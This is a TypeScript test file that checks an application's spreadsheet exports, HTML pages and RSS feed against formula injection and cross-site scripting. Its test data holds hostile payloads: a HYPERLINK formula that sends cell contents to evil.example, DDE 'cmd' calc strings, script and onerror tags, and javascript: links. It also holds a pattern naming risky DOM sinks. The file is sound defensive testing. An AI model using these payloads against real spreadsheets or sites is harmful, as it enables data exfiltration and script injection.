import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { readXlsx } from "hucre/xlsx";
import { describe, expect, it } from "vitest";
import { toRss } from "../../src/http/feed-formats.ts";
import { articlePage } from "../../src/http/feed-pages.ts";
import type { Part } from "../../src/kit/message.ts";
import { instant } from "../../src/kit/time.ts";
import { safeText, writeSheets } from "../../src/papers/sheet.ts";
import { exportMembers } from "../../src/people/export-members.ts";
import { importMembers } from "../../src/people/import-members.ts";
import { importUnits } from "../../src/people/import-units.ts";
import { memberList, unitList } from "../people/lists.ts";
import { openTestDatabase } from "../support/databases.ts";
import { readSource } from "../support/source.ts";

const project = join(import.meta.dirname, "..", "..");
const sourcesIn = (folder: string) =>
  readdirSync(join(project, folder), { recursive: true, encoding: "utf8" })
    .filter((name) => /\.(?:ts|tsx|js)$/.test(name))
    .map((name) => ({ path: join(folder, name), text: readFileSync(join(project, folder, name), "utf8") }));

const formulas = [
  '=HYPERLINK("http://evil.example/?"&A1)',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  " =1+1",
  "\r=1+1",
  "=1+1\n=2",
  "|calc",
  "%0A=1",
];
/** What spreadsheet programs work out when it stands at the beginning of a cell. */
const worksOut = /^[\s]*[=+\-@|%]/;
const isFigure = /^[\s+\-\d.,()%/]+$/;

describe("a spreadsheet that leaves the program", () => {
  it("is written by one place, which keeps every text a text", async () => {
    const writers = sourcesIn("src").filter(({ text }) =>
      /\bwriteXlsx\b|\bWorkbook\(/.test(readSource(text).code),
    );
    expect(writers.map(({ path }) => path)).toEqual([join("src", "papers", "sheet.ts")]);
    const bytes = await writeSheets([
      {
        name: "A",
        heading: [],
        columns: [{ title: "T", width: 9, kind: "text" }],
        rows: formulas.map((text) => [text]),
      },
    ]);
    const { sheets } = await readXlsx(bytes);
    const cells = (sheets[0]?.rows ?? []).slice(1).map(([cell]) => String(cell));
    expect(cells).toHaveLength(formulas.length);
    for (const cell of cells) expect([cell, worksOut.test(cell)]).toEqual([cell, false]);
  });

  it("holds no formula, whatever a person is called", () => {
    const signs = fc.constantFrom(..."=+-@|%\t\r\n '\"0a(".split(""));
    fc.assert(
      fc.property(fc.array(signs, { maxLength: 8 }), (letters) => {
        const safe = safeText(letters.join(""));
        return !worksOut.test(safe) || isFigure.test(safe);
      }),
    );
  });

  it("of members begins no cell with one either", async () => {
    const { db, close } = await openTestDatabase();
    const now = instant("2026-11-23T03:00:00Z");
    const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;
    const lines = formulas.map((name, at) =>
      [`M${at}`, quoted(name), "TO-1", quoted(name), "", "", "", "", ""].join(";"),
    );
    await db.transact(async (tx) => {
      await importUnits(tx, unitList("TO-1;=1+1;tổ;;;;;;;"), { now, isTrial: false });
      const taken = await importMembers(tx, memberList(...lines), { now, isTrial: false });
      expect(taken).toMatchObject({ kind: "taken", added: formulas.length });
    });
    let text = "";
    for await (const piece of exportMembers(db.read)) text += piece;
    await close();
    expect(text).toContain("HYPERLINK");
    for (const line of text.split("\r\n")) expect(line).not.toMatch(/(?:^|,)"?\s*[=+@|-]/);
  });
});

describe("a page that leaves the program", () => {
  const hostile = `"><script>alert(1)</script><img src=x onerror=alert(1)>]]>'\u0000`;
  const parts: readonly Part[] = [
    { kind: "text", text: hostile },
    { kind: "link", url: `javascript:alert("${hostile}")`, label: hostile },
    { kind: "link", url: `https://x.example/"onmouseover="alert(1)`, label: hostile },
    { kind: "quote", citation: { document: "x", clause: "1", label: hostile, quote: hostile } },
  ];
  const article = {
    ...{ slug: "tin", title: hostile, lead: hostile, parts, sources: [hostile] },
    ...{ corrections: [{ note: hostile, at: instant(0) }], publishedAt: instant(0), changedAt: instant(0) },
  };

  it("shows hostile words as words: title, text, links, corrections, in the page and in the feed", () => {
    const root = "https://x.example";
    const organization = "LĐLĐ";
    const frame = { root, organization, assetUrl: (name: string) => `/${name}` };
    const list = { root, organization, articles: [article], changedAt: instant(0), total: 1 };
    expect(articlePage(article, frame)).toContain("alert(1)");
    for (const sent of [articlePage(article, frame), toRss(list)])
      expect(sent).not.toMatch(/<script|<img src=x|href="javascript:|"onmouseover/i);
  });

  it("is drawn without ever turning words into markup", () => {
    const risky =
      /\.(?:innerHTML|outerHTML|insertAdjacentHTML|srcdoc)\b|dangerouslySetInnerHTML|document\.write|\beval\(|new Function\(/;
    const pages = [...sourcesIn("web/chat"), ...sourcesIn("web/dashboard")];
    expect(pages.length).toBeGreaterThan(20);
    expect(pages.filter(({ text }) => risky.test(readSource(text).code)).map(({ path }) => path)).toEqual([]);
  });
});

describe("a secret", () => {
  it("is never compared sign by sign", () => {
    const compared =
      /\b\w*(?:[sS]ecret|[sS]ignature|[mM]ac|[hH]mac|digest)\w*\s*[!=]==\s*(?!undefined|null|""|")/;
    // A field of a form may well be called a secret.
    const sources = sourcesIn("src").filter(({ path }) => !path.includes("intake"));
    const found = sources.flatMap(({ path, text }) => {
      const match = compared.exec(readSource(text).code);
      return match ? [`${path}: ${match[0]}`] : [];
    });
    expect(found).toEqual([]);
  });
});
